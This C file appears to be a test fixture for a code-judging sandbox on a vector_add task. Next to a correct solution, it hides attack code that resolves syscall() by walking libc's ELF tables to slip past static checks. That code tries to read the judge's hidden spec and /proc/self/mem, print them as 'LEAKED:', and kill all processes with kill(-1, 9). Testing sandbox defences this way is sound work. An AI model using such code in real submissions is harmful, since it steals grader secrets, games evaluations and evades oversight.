// Finds libc's image from stdout's FILE object and resolves syscall() from its symbol table, with no
// forbidden symbol, header or instruction: nothing static can see it. It then tries to read the
// judge's spec (seed and hidden shapes) from its folder, print it into its log (which feedback
// shows), and open /proc/self/mem; it computes the right answer either way.
// task: vector_add
// expect: ok
#include <stdint.h>
#include <stdio.h>
#include <string.h>
typedef struct { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff; uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; } elf_header;
typedef struct { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; } elf_segment;
typedef struct { int64_t tag; uint64_t val; } elf_dyn;
typedef struct { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; } elf_sym;
typedef long (*syscall_fn)(long, ...);
static int same(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}
/* libc's image: walk down from stdout's FILE object (in libc's data) to its ELF header, then
 * look the name up in its dynamic symbol table. No forbidden symbol is referenced. */
static void *libc_symbol(const char *want) {
  uintptr_t p = (uintptr_t)stdout & ~(uintptr_t)0xfff;
  while (memcmp((const void *)p, "\x7f" "ELF", 4) != 0) p -= 0x1000;
  const elf_header *e = (const elf_header *)p;
  const elf_segment *ph = (const elf_segment *)(p + e->phoff);
  const elf_dyn *d = 0;
  for (int i = 0; i < e->phnum; i++)
    if (ph[i].type == 2) d = (const elf_dyn *)(p + ph[i].vaddr);
  uintptr_t symtab = 0, strtab = 0;
  for (; d && d->tag; d++) {
    if (d->tag == 6) symtab = d->val < p ? p + d->val : d->val;
    if (d->tag == 5) strtab = d->val < p ? p + d->val : d->val;
  }
  for (const elf_sym *s = (const elf_sym *)symtab; (uintptr_t)s < strtab; s++)
    if (s->name && s->value && same((const char *)strtab + s->name, want)) return (void *)(p + s->value);
  return 0;
}
static syscall_fn sys;
void solve(const float *a, const float *b, float *out, int n) {
  if (!sys) {
    sys = (syscall_fn)libc_symbol("syscall");
    const char *files[] = {"/job/check.spec", "/job/time.spec", "/job/../check.spec", "/proc/self/mem"};
    for (int f = 0; sys && f < 4; f++) {
      long fd = sys(257 /* openat */, -100L, files[f], 0L);
      char buf[4096];
      long got = fd >= 0 ? sys(0 /* read */, fd, buf, (long)sizeof buf) : -1;
      if (got > 0) {
        sys(1 /* write */, 1L, "LEAKED:", 7L);
        sys(1, 1L, buf, got);
      }
    }
    if (sys) sys(62 /* kill */, -1L, 9L);
    printf("resolved syscall: %s\n", sys ? "yes" : "no");
  }
  for (int i = 0; i < n; i++) out[i] = a[i] + b[i];
}
